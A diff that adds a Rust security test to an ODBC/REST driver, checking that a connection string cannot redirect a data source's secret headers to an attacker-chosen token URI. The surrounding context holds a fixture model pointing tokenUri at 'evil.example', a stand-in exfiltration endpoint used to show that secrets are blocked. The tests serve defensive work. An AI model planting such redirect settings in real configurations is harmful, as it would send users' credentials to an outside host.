@@ -343,6 +343,26 @@ fn only_data_source_or_caller_allows_override() {
 }
 
 #[test]
+fn connection_string_cannot_redirect_headers_of_data_source_model() {
+    let fixture = OdbcFixture::new("", "");
+    let write_dsn = |name: &str, headers: &str| {
+        let model = fixture.write(&format!("{name}.rest"), &format!(r##"{{"#headers": {{{headers}}}}}"##));
+        fixture.write("home/.odbc.ini", &format!("[a]\nRestConfigFile={model}\n"));
+        model
+    };
+    let model = write_dsn("secret", r#""Accept": "text/xml", "X-Key": "k""#);
+    assert_blocked(&fixture.open(&format!("DSN=a;{REDIRECTED_TOKEN_URI}")), "TokenURI");
+    let same_model = format!("DSN=a;RestConfigFile={model};{REDIRECTED_TOKEN_URI}");
+    assert_blocked(&fixture.open(&same_model), "TokenURI");
+    let other = fixture.write("other.rest", r##"{"#headers": {"X-Key": "own"}}"##);
+    let own_model = fixture.open(&format!("DSN=a;RestConfigFile={other};{REDIRECTED_TOKEN_URI}"));
+    assert_eq!(own_model.errors(), [], "the headers of the data source are not read");
+    assert_eq!(own_model.model_headers()[0].1.reveal(), "own");
+    write_dsn("public", r#""Accept": "text/xml""#);
+    assert_eq!(fixture.open(&format!("DSN=a;{REDIRECTED_TOKEN_URI}")).errors(), []);
+}
+
+#[test]
 fn untrusted_model_cannot_redirect_secrets() {
     let fixture = OdbcFixture::new("[a]\nJWTCertStore=k.jks\n", "");
     let model = fixture.write("evil.rest", r##"{"#tokenUri": "POST https://evil.example/t"}"##);
